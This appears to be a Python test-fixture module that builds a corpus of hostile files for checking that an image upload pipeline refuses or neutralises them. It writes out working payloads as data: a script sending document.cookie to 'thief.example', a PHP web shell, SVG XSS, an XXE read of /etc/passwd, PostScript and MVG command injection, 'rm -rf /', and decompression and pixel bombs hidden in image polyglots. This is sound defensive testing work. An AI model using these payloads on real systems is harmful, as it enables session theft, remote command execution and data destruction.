"""Files that do not mean well, all made here. Each must be refused or become neutral (S40, S41)."""

import gzip
import random
import struct
import zipfile
import zlib
from io import BytesIO

from kiekeboe.lib.images.tests import drawn

SCRIPT = b"<html><script>fetch('https://thief.example/?'+document.cookie)</script></html>"
PHP = b"<?php system($_GET['c']); /* " + drawn.SECRET + b" */ ?>"
PAYLOADS = (SCRIPT, PHP, drawn.SECRET, b"alert(document.domain)//--padding-padding--")


def corpus() -> dict[str, bytes]:
    """Name → bytes; the names say what is wrong, the pipeline never sees them."""
    return {**polyglots(), **talkative(), **bombs(), **moving(), **cut_off(), **other_things()}


def zipped(content=SCRIPT, times=1) -> bytes:
    """An archive within an archive, `times` deep."""
    for _ in range(times):
        file = BytesIO()
        with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("inside.html", content)
        content = file.getvalue()
    return content


def polyglots() -> dict[str, bytes]:
    """A photo that is something else too."""
    jpeg, png, webp = (drawn.photo(kind) for kind in ("JPEG", "PNG", "WEBP"))
    gif = drawn.photo("GIF", size=(60, 40))
    return {
        "jpeg+html trailer": jpeg + SCRIPT,
        "jpeg+html comment": drawn.with_segment(jpeg, 0xFE, SCRIPT),
        "jpeg+html app13": drawn.with_segment(jpeg, 0xED, b"Photoshop 3.0\0" + SCRIPT),
        "jpeg+zip trailer": jpeg + zipped(),
        "jpeg+php comment": drawn.with_segment(jpeg, 0xFE, PHP),
        "jpeg+second jpeg": jpeg + drawn.with_segment(jpeg, 0xFE, PHP),
        "jpeg+elf trailer": jpeg + b"\x7fELF\2\1\1" + PHP,
        "png+php text": drawn.with_chunk(png, b"tEXt", b"Comment\0" + PHP),
        "png+php trailer": png + PHP,
        "png+html itxt": drawn.with_chunk(png, b"iTXt", b"Title\0\0\0\0\0" + SCRIPT),
        "png+php private chunk": drawn.with_chunk(png, b"phPx", PHP),
        "png+zip trailer": png + zipped(times=3),
        "webp+html trailer": webp + SCRIPT,
        "webp+php chunk": _webp_with(webp, b"PHP ", PHP),
        "gif+js": b"GIF89a/*" + gif[8:] + b"*/=1;" + PAYLOADS[3],
        "html before jpeg": SCRIPT + jpeg,
        "newline before png": b"\n" + png,
        "pdf before jpeg": b"%PDF-1.7\n" + jpeg,
    }


def talkative() -> dict[str, bytes]:
    """Photos that carry more than pixels."""
    exif, xmp = drawn.telltale_exif(), drawn.telltale_xmp()
    jpeg, png = drawn.photo(), drawn.photo("PNG")
    large = b"Exif\0\0" + exif[6:] + drawn.SECRET * 1200
    many = jpeg
    for _ in range(300):
        many = drawn.with_segment(many, 0xE1, b"Exif\0\0" + drawn.SECRET * 1000)
    return {
        "jpeg place and serial": drawn.photo(exif=exif, xmp=xmp),
        "jpeg huge exif": drawn.with_segment(jpeg, 0xE1, large[:65000]),
        "jpeg 15 MB of exif": many,
        "jpeg broken exif": drawn.with_segment(jpeg, 0xE1, b"Exif\0\0MM\0*" + b"\xff" * 500),
        "jpeg circular exif": drawn.with_segment(jpeg, 0xE1, _circular_exif()),
        "jpeg xmp": drawn.with_segment(jpeg, 0xE1, b"http://ns.adobe.com/xap/1.0/\0" + xmp),
        "jpeg nonsense profile": drawn.photo(icc_profile=drawn.SECRET * 1000),
        "jpeg large profile": drawn.photo(icc_profile=random.Random(3).randbytes(4_000_000)),
        "png place and serial": drawn.photo("PNG", exif=exif),
        "png profile bomb": drawn.with_chunk(png, b"iCCP", _squeezed(b"icc\0\0", 80)),
        "png text bomb": drawn.with_chunk(png, b"zTXt", _squeezed(b"Comment\0\0", 80)),
        "png many text bombs": png[:33]
        + drawn.chunk(b"zTXt", _squeezed(b"C\0\0", 1)) * 200
        + png[33:],
        "webp place and serial": drawn.photo("WEBP", exif=exif, xmp=xmp),
        "webp nonsense profile": drawn.photo("WEBP", icc_profile=drawn.SECRET * 100),
    }


def bombs() -> dict[str, bytes]:
    """Small files that claim to be enormous."""
    jpeg = drawn.photo()
    return {
        "png 50,000 x 50,000": drawn.png_of(50_000, 50_000),
        "png 50,000 x 50,000 full": drawn.png_of(50_000, 50_000, rows=b"\0" * 80_000_000),
        "png 2 billion wide": drawn.png_of(2**31 - 1, 1),
        "png 40 megapixels and a row": drawn.png_of(8000, 5001),
        "png without size": drawn.png_of(0, 0),
        "png size it does not have": drawn.png_of(5000, 5000),
        "jpeg 50,000 x 50,000": drawn.resized_header(jpeg, 50_000, 50_000),
        "jpeg 65,500 wide": drawn.resized_header(jpeg, 65_500, 65_500),
        "jpeg without size": drawn.resized_header(jpeg, 0, 0),
        "webp 16,384 x 16,384": _large_webp(),
        "gzip": gzip.compress(b"\0" * 10_000_000),
        "zip in zip in zip": zipped(b"\0" * 10_000_000, times=5),
    }


def moving() -> dict[str, bytes]:
    """More than one picture in one file."""
    frames = [drawn.picture(80, 60, seed=seed) for seed in range(2, 6)]

    def saved(kind, **options):
        file = BytesIO()
        first, *rest = (frame.copy() for frame in frames)
        first.save(file, kind, save_all=True, append_images=rest, **options)
        return file.getvalue()

    return {
        "moving gif": saved("GIF"),
        "moving png": saved("PNG"),
        "moving webp": saved("WEBP", duration=100),
        "pages of tiff": saved("TIFF"),
        "pages of pdf": saved("PDF"),
        "png claims 2 billion frames": _png_of_many_frames(),
    }


def cut_off() -> dict[str, bytes]:
    """Photos that stop half-way, at many points."""
    whole = {kind: drawn.photo(kind) for kind in ("JPEG", "PNG", "WEBP")}
    return {
        f"{kind.lower()} cut at {share}%": content[: len(content) * share // 100]
        for kind, content in whole.items()
        for share in (1, 10, 50, 75, 90)
    }


def other_things() -> dict[str, bytes]:
    """Not photos, whatever their name says."""
    chance = random.Random(4)
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>1</script></svg>'
    return {
        "nothing": b"",
        "one byte": b"\xff",
        "jpeg mark only": b"\xff\xd8\xff",
        "zeros": b"\0" * 10_000,
        "random bytes": chance.randbytes(50_000),
        "random after jpeg mark": b"\xff\xd8\xff\xe0" + chance.randbytes(50_000),
        "random after png mark": b"\x89PNG\r\n\x1a\n" + chance.randbytes(50_000),
        "random after webp mark": b"RIFF\x50\xc3\0\0WEBPVP8 " + chance.randbytes(49_984),
        "random after heic mark": b"\0\0\0\x18ftypheic" + chance.randbytes(50_000),
        "svg": svg,
        "svg with declaration": b'<?xml version="1.0"?>' + svg,
        "svg packed": gzip.compress(svg),
        "html": b"<!doctype html>" + SCRIPT,
        "xml that reads files": b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
        "pdf with script": b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>",
        "postscript": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(%pipe%id) run\n",
        "mp4": b"\0\0\0\x20ftypisom\0\0\2\0isomiso2avc1mp41" + chance.randbytes(500),
        "quicktime": b"\0\0\0\x14ftypqt  \0\0\0\0qt  " + chance.randbytes(500),
        "webm": b"\x1aE\xdf\xa3" + chance.randbytes(500),
        "avif": drawn.photo("AVIF", size=(60, 40)),
        "bmp": drawn.photo("BMP", size=(60, 40)),
        "still gif": drawn.photo("GIF", size=(60, 40)),
        "still tiff": drawn.photo("TIFF", size=(60, 40)),
        "jpeg 2000": drawn.photo("JPEG2000", size=(60, 40)),
        "program": b"\x7fELF\2\1\1" + chance.randbytes(500),
        "shell": b"#!/bin/sh\nrm -rf /\n",
        "text": b"Lotte was vandaag heel vrolijk.\n",
        "mvg that runs": b"push graphic-context\nimage over 0,0 0,0 '|id'\npop graphic-context",
        "zip": zipped(),
        "java": b"\xca\xfe\xba\xbe\0\0\0\x34" + chance.randbytes(300),
    }


def _squeezed(prefix: bytes, mebibytes: int) -> bytes:
    return prefix + zlib.compress(b"A" * mebibytes * 1024 * 1024, 9)


def _circular_exif() -> bytes:
    """A directory of tags whose subdirectory is itself."""
    entry = struct.pack(">HHII", 0x8769, 4, 1, 8)
    return b"Exif\0\0MM\0*\0\0\0\x08\0\1" + entry + b"\0\0\0\x08"


def _webp_with(webp: bytes, name: bytes, content: bytes) -> bytes:
    content += b"\0" * (len(content) % 2)
    body = webp[8:] + name + struct.pack("<I", len(content)) + content
    return b"RIFF" + struct.pack("<I", len(body)) + body


def _large_webp() -> bytes:
    canvas = (16_383).to_bytes(3, "little") * 2
    body = b"WEBPVP8X" + struct.pack("<I", 10) + b"\0\0\0\0" + canvas + drawn.photo("WEBP")[12:]
    return b"RIFF" + struct.pack("<I", len(body)) + body


def _png_of_many_frames() -> bytes:
    png = drawn.photo("PNG", size=(60, 40))
    return drawn.with_chunk(png, b"acTL", struct.pack(">II", 2**31 - 1, 0))
